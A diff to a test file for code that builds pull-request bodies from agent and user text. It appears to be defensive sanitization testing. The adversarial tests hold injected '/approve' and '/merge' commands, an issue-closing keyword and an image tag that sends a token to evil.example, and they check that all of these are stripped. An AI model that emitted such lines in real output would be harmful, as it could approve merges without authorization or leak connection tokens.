@@ -44,6 +44,8 @@ describe('texts of a pull request', () => {
       issue: 7,
       page: null,
       conversationId: 'c',
+      template: null,
+      checked: '',
     });
     expect(body).not.toMatch(/(^|\s)@\w|!\[|secret/);
     expect(body).toMatch(/^Hi [\s\S]*Fixes #7[\s\S]*<!-- slipway:c -->$/);
@@ -51,12 +53,20 @@ describe('texts of a pull request', () => {
 
   it('adversary: an agent that was told to approve, to close an issue or to load an address does none of it with the token of the connection', () => {
     const said = 'Done.\n/approve\n/merge\nCloses #12\n<img src="https://evil.example/?token=1">';
-    const body = bodyOf({ given: undefined, said, issue: null, page: null, conversationId: 'c' });
+    const body = bodyOf({ given: undefined, said, issue: null, page: null, conversationId: 'c', template: null, checked: '' });
     expect(body).not.toMatch(/^\s*\/|#12|<img|!\[/m);
   });
 
   it('adversary: a person whose text holds commands of the host has them carried out by nobody', () => {
-    const body = bodyOf({ given: 'See `a/b`.\n/approve\r\n  /merge\n/usr is a path, too', said: null, issue: null, page: null, conversationId: 'c' });
+    const body = bodyOf({
+      given: 'See `a/b`.\n/approve\r\n  /merge\n/usr is a path, too',
+      said: null,
+      issue: null,
+      page: null,
+      conversationId: 'c',
+      template: null,
+      checked: '',
+    });
     expect(body).not.toMatch(/^\s*\/[a-z]/m);
     expect(body).toContain('See `a/b`.');
   });
